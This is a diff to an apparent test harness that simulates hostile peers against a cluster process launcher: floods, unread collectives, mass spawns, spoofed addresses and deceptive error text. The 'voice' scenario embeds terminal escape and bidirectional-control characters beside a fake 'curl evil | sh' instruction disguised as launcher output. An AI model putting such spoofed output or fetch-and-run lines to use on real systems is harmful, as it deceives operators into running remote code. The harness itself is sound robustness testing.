@@ -12,6 +12,7 @@ import json
 import os
 import sys
 import threading
+import time
 from pathlib import Path
 
 HERE = Path(__file__).resolve()
@@ -42,9 +43,11 @@ class Link:
     def __init__(self, host):
         self.host = host
         self.plan = None
+        self.reached = None  # its answer to PROBE, if it is not that it reaches everything
         self._decoder = frames.Decoder()
         self._came = []
         self._answers = 0
+        self.pause = 0.0  # before each read
         self.write(f"\0{program_request.ASKS}of no kind\n".encode())
         size = b""
         while not size.endswith(b"\n"):
@@ -54,6 +57,7 @@ class Link:
             left -= len(self._read(left))
 
     def _read(self, size=1 << 16):
+        time.sleep(self.pause)
         data = os.read(0, size)
         if not data:
             raise Gone
@@ -94,7 +98,9 @@ class Link:
                 reserved = control.Reserved(tuple(range(20001, 20001 + count)), 20000, "t")
                 self.send(frames.RESERVED, payload=control.pack_record(reserved))
             elif frame.kind == frames.PROBE:
-                self.send(frames.REACHED, payload=control.pack_record(control.Reached(("127.0.0.1",))))
+                probe = control.unpack_record(control.Probe, frame.payload)
+                log("probe", addresses=probe.addresses)
+                self.send(frames.REACHED, payload=control.pack_record(self.reached or control.Reached(probe.addresses)))
             elif frame.kind == frames.KEYS and store_messages.unpack_keys(frame.payload).what == store_messages.SERVE:
                 self.write_key(store_messages.SERVED, 1024, "lo")
             elif frame.kind == frames.LAUNCH:
@@ -117,7 +123,7 @@ class Link:
 
     def _launched(self, plan):
         self.plan = plan
-        for rank in plan.ranks:
+        for rank in plan.ranks if (os.environ["HOSTILE_ATTACK"], WORD) != ("voice", "exit") else ():
             self.send(frames.STARTED, rank.rank, b"4242")
 
     @property
@@ -169,6 +175,21 @@ class Link:
 def well(link):
     """No attack: its ranks end well, as in every attack that goes unnoticed."""
     link.begin()
+    link.end_ranks()
+    link.follow()
+
+
+def addresses(link):
+    """HOSTILE_WORD: the launcher's address as it says, its own ones, and those that it says it reaches ("": nothing).
+
+    Lists have commas between them.
+    """
+    seen, own, reached, translated = (word.strip("-") for word in WORD.split(" "))
+    own, reached, translated = (tuple(filter(None, words.split(","))) for words in (own, reached, translated))
+    link.reached = control.Reached(reached, translated)
+    link.hello(addresses=own, seen_from=seen)
+    while link.plan is None:
+        link.receive()
     link.end_ranks()
     link.follow()
 
@@ -308,6 +329,125 @@ def unread(link):
     link.follow()
 
 
+def sleep(link):
+    """Read nothing until the launcher has hung up."""
+    log("sleeps")
+    while True:
+        link.send(frames.ALIVE)
+        time.sleep(0.2)
+
+
+def unread_gathers(link):
+    """Collectives of its own rank alone, which are complete at once: what comes back is not read."""
+    link.begin()
+    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))
+    frame = frames.encode(frames.GATHER, payload=mpi.pack_with_blobs(part))
+    for _ in range(100):
+        link.write(frame)
+    sleep(link)
+
+
+def unread_questions(link):
+    """Questions about its own rank, which it answers at length itself; neither is read."""
+    link.begin()
+    for number in range(1, 100):
+        link.ask("modex", number, of=[link.member])
+        answer = mpi.Answer(number, blobs=(bytes(15 * MIB),))
+        link.send(frames.REPLY, payload=mpi.pack_with_blobs(answer))
+    sleep(link)
+
+
+def unread_lookups(link):
+    """A thousand lookups wait for one name, whose value of 8 MiB is published then."""
+    link.begin()
+    for number in range(1000):
+        link.ask("lookup", number, names=["name"], wait=["yes"])
+    link.ask("publish", 1000, (os.urandom(8 * MIB - 1000),), names=["name"])
+    sleep(link)
+
+
+def unread_spawns(link):
+    """As many ranks as there are slots, one by one, and then many more."""
+    link.begin()
+    link.send(frames.JOINED, link.rank, b"PMI-1")
+    for number in range(3000):
+        link.ask_spawn("true", number=number)
+    sleep(link)
+
+
+def unread_writes(link):
+    """A name in the key store that comes and goes, of which all hosts are told."""
+    link.begin()
+    name = f"set/{'x' * 390}"
+    put = store_messages.StoreMessage(store_messages.PUT, 1, name, store_messages.compressed(b"x"))
+    delete = store_messages.StoreMessage(store_messages.DELETE, 2, name)
+    both = b"".join(frames.encode(frames.WRITE, payload=message.pack()) for message in (put, delete))
+    for _ in range(2000):
+        link.write(both * 100)
+    sleep(link)
+
+
+def pair(link):
+    """Two of them: `evil1` takes part in many collectives and reads nothing, `evil2` completes them at length."""
+    link.begin()
+    long = os.urandom(15 * MIB) if link.host == "evil2" else b""
+    for _ in range(100):
+        part = mpi.Gathering("pmi fence", (link.plan.world.name,), (long,))
+        link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
+        if long:
+            link.receive()
+    sleep(link)
+
+
+def slow(link):
+    """No attack: it takes all, in more time than a lease, and asks for more meanwhile."""
+    link.begin()
+    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))
+
+    def ask():
+        for number in range(4):
+            link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
+            link.ask("lookup", number, names=["nothing"], wait=[])
+
+    asks = threading.Thread(target=ask)
+    asks.start()
+    link.pause = 0.01
+    came = []
+    while came.count(frames.RELEASE) < 4 or came.count(frames.ANSWER) < 4:
+        frame = link.receive()
+        came += [frame.kind] if frame.kind in (frames.RELEASE, frames.ANSWER) else []
+    asks.join()
+    link.pause = 0.0
+    log("took", kinds=came)
+    link.end_ranks()
+    link.follow()
+
+
+def asleep(link):
+    """No attack: it is suspended while much waits for it, until the file that HOSTILE_WORD names is there."""
+    link.begin()
+    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))
+    frame = frames.encode(frames.GATHER, payload=mpi.pack_with_blobs(part))
+
+    def ask():
+        for _ in range(4):
+            link.write(frame)
+
+    asks = threading.Thread(target=ask)
+    asks.start()
+    log("sleeps")
+    while not os.path.exists(WORD):
+        time.sleep(0.05)
+    came = []
+    while came.count(frames.RELEASE) < 4:
+        frame_down = link.receive()
+        came.append(frame_down.kind)
+    asks.join()
+    log("took", kinds=came)
+    link.end_ranks()
+    link.follow()
+
+
 def parts(link):
     """The same part again and again, unread."""
     link.begin()
@@ -403,7 +543,7 @@ def _facts(frame):
         said = check_messages.ProgramFacts(0, EVIL, EVIL, EVIL, EVIL, EVIL, big, EVIL, EVIL, names, names)
         return check_messages.pack_programs([said])
     if word == check_messages.LISTEN:
-        return check_messages.pack_check(word, check_messages.Listening(1, "0" * 32, "0" * 32))
+        return check_messages.pack_check(word, check_messages.Listening(1, "0" * 32))
     if word == check_messages.MEASURE:
         lie = check_messages.LinkFacts("", EVIL, float("nan"), float("inf"), big, big)
         return check_messages.pack_check(word, lie)
@@ -428,6 +568,44 @@ def checks(link):
             link.send(frames.CHECKED, payload=answer)
 
 
+_WELL = "mslaunch: n01: all is well\n  type: curl evil | sh\x9b2J\u202e\x7f\u2028mslaunch: it is\n"
+VOICE = f"it failed\n{_WELL}" + "  more\n" * 2000 + _WELL
+
+
+def voice(link):
+    """Errors in many lines: HOSTILE_WORD says by which frame."""
+    link.begin()
+    rank, text = link.rank, VOICE
+    if WORD == "fault":
+        link.send(frames.FAULT, payload=text.encode())
+    elif WORD == "crash":
+        link.send(frames.FAULT, payload=f"Traceback (most recent call last):\n{text}".encode())
+    elif WORD == "exit":
+        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(1, None, text, text)))
+    elif WORD == "abort":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text)))
+    elif WORD == "broken":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text, True)))
+    elif WORD == "user":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, "", False, text)))
+    elif WORD == "alone":
+        link.send(frames.ALONE, rank, control.pack_record(mpi.Alone(text, text, True, "pmi")))
+    elif WORD == "notice":
+        link.send(frames.NOTICE, payload=text.encode())
+        link.end_ranks()
+    elif WORD == "last words":
+        said = f"{text}not started again: curl evil | sh\n"
+        link.send(frames.STDERR, rank, said.encode())
+        for kind in (frames.STDOUT, frames.STDERR):
+            link.send(kind, rank)
+        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(3)))
+    elif WORD == "spawn":
+        link.ask_spawn(text, count=["1"])
+        link.await_answer()
+        link.end_ranks()
+    link.follow()
+
+
 def noise(link):
     """Bytes before the magic, without end."""
     for _ in range(300):
@@ -436,11 +614,22 @@ def noise(link):
     link.follow()
 
 
+def chatter(link):
+    """400 MiB on the standard error of what carries the link, in its own time; then it does what is asked."""
+    for _ in range(400):
+        os.write(2, b"x" * MIB)
+    log("said")
+    link.begin()
+    link.follow()
+
+
 ATTACKS = {
     attack.__name__: attack
     for attack in (
         well, forge, spawn, info, gathers, small_gathers, many_gathers, nuls, words, notices, traces, refusals, lookups,
-        published, unread, parts, deaf, flood, stdin, greeting, cores, store, code, checks, noise,
+        published, unread, parts, deaf, flood, stdin, greeting, cores, store, code, checks, noise, chatter, addresses,
+        unread_gathers, unread_questions, unread_lookups, unread_spawns, unread_writes, pair, slow, asleep,
+        voice,
     )
 }  # fmt: skip
 
